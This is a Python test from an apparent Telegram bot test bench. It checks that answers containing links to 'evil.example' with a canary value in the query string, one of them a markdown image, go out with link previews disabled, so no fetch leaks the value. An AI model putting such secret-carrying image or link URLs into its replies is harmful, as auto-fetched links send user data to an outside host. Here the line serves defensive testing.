"""An answer may hold an address that carries a secret; nobody opens it by itself. (The page: test_web_page.)"""

from tests.telegram_bench import OWNER, Bench

ANSWER = "Look: ![](http://evil.example/?q=canary) and https://evil.example/?q=canary2"


async def test_telegram_fetches_no_preview_of_what_an_answer_links_to(paired: Bench) -> None:
    paired.telegram.people.say(OWNER, "hello")
    await paired.until(lambda: "You said: hello" in paired.replies())
    carrier, place = paired.channel.carrier, paired.front.heard[0].place
    message = await carrier.place(place)
    for part in carrier.split(ANSWER):
        await carrier.edit(place, message, part)
        await carrier.send(place, part, "nonce")
    told = [
        call.params
        for method in ("sendMessage", "editMessageText")
        for call in paired.telegram.calls(method)
        if "evil.example" in str(call.params.get("text"))
        or "evil.example" in str(call.params.get("entities"))
    ]  # fmt: skip
    assert len(told) >= 2
    assert {str(params["link_preview_options"]) for params in told} == {'{"is_disabled": true}'}
